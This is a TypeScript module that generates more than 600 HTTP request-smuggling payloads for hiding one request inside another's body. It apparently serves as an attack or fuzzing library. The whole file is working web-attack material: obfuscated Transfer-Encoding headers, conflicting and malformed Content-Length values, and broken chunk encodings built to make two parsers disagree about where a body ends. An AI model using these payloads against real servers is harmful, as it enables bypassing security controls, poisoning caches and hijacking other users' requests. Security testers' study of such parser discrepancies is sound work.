/** One way of saying how long a body is that two parsers may read differently. */
export interface SmugglingAttack {
  readonly name: string
  /** Header lines, joined with CRLF, without the last one's end. */
  readonly framing: string
  readonly body: string
}

// How `Transfer-Encoding` has been written so that one parser sees it and another does not.
const encodings = [
  'Transfer-Encoding: chunked',
  'transfer-encoding: CHUNKED',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:  chunked',
  'Transfer-Encoding: chunked ',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: \tchunked\t',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  ' Transfer-Encoding: chunked',
  '\tTransfer-Encoding: chunked',
  'X: y\r\n Transfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'X: y\0Transfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding:\n chunked',
  'Transfer-Encoding: chun\r\n ked',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: x',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: chunked\x0b',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding: \xa0chunked',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding',
  'Transfer-Encoding:',
  'Transfer_Encoding: chunked',
  'Transfer.Encoding: chunked',
  'Transfer Encoding: chunked',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: chunked\r\ntransfer-encoding: chunked',
  'TE: chunked',
  'Transfer-Encoding: chunked\r\nTE: trailers',
]

const lengths = (bytes: number): readonly string[] => [
  `Content-Length: ${bytes}`,
  'Content-Length: 0',
  'Content-Length: 5',
  `Content-Length: ${bytes}\r\nContent-Length: 0`,
  `Content-Length: 0\r\nContent-Length: ${bytes}`,
  `Content-Length: ${bytes}, 0`,
  `Content-Length: ${bytes}, ${bytes}`,
  `Content-Length: +${bytes}`,
  `Content-Length: -1`,
  `Content-Length: 0x${bytes.toString(16)}`,
  `Content-Length: ${bytes}.0`,
  `Content-Length: ${bytes}e0`,
  `Content-Length: 0${bytes}`,
  `Content-Length: ${bytes} 0`,
  `Content-Length : ${bytes}`,
  ` Content-Length: ${bytes}`,
  `Content-Length:\r\n ${bytes}`,
  'Content-Length:',
  `Content-Length: "${bytes}"`,
  'Content-Length: 99999999999999999999',
  `Content_Length: ${bytes}`,
  `X: y\nContent-Length: ${bytes}`,
]

// How a chunk has been written so that two parsers disagree where it ends. `body` stands for what hides.
const chunkings = (hidden: string): readonly string[] => {
  const size = Buffer.byteLength(hidden).toString(16)
  return [
    `0\r\n\r\n${hidden}`,
    `${size}\r\n${hidden}\r\n0\r\n\r\n`,
    `0\n\n${hidden}`,
    `0 \r\n\r\n${hidden}`,
    `0;\r\n\r\n${hidden}`,
    `0;x\n\r\n${hidden}`,
    `00000000000000000\r\n\r\n${hidden}`,
    `0x0\r\n\r\n${hidden}`,
    `-0\r\n\r\n${hidden}`,
    `+0\r\n\r\n${hidden}`,
    `\r\n0\r\n\r\n${hidden}`,
    `5\r\nhello0\r\n\r\n${hidden}`,
    `5\r\nhelloXX0\r\n\r\n${hidden}`,
    `5\nhello\n0\n\n${hidden}`,
    `1\r\nZ\r\nQ\r\n${hidden}`,
    `ffffffffffffffff\r\n${hidden}`,
    `10000000000000000\r\n${hidden}`,
    `0\r\nX: y\r\n\r\n${hidden}`,
    `0\r\nContent-Length: 5\r\n\r\n${hidden}`,
    `0\r\n ${hidden}`,
    `5;a="\r\nhello\r\n0\r\n\r\n"${hidden}`,
    hidden,
  ]
}

/** Returns more than 600 ways of hiding a request in the body of another: each encoding, length and chunking. */
export function smugglingAttacks(hidden: string): SmugglingAttack[] {
  const attacks: SmugglingAttack[] = []
  const plain = `0\r\n\r\n${hidden}`
  for (const encoding of encodings) {
    for (const length of lengths(plain.length).slice(0, 8)) {
      attacks.push({ name: `${encoding} + ${length}`, framing: `${encoding}\r\n${length}`, body: plain })
      attacks.push({ name: `${length} + ${encoding}`, framing: `${length}\r\n${encoding}`, body: plain })
    }
    attacks.push({ name: encoding, framing: encoding, body: plain })
  }
  for (const length of lengths(plain.length)) attacks.push({ name: length, framing: length, body: plain })
  for (const body of chunkings(hidden)) {
    for (const encoding of [
      'Transfer-Encoding: chunked',
      'Transfer-Encoding: chunked\r\nContent-Length: 5',
    ]) {
      attacks.push({ name: `${encoding} with ${body.slice(0, 16)}`, framing: encoding, body })
    }
  }
  return attacks.map((attack) => ({ ...attack, name: JSON.stringify(attack.name) }))
}
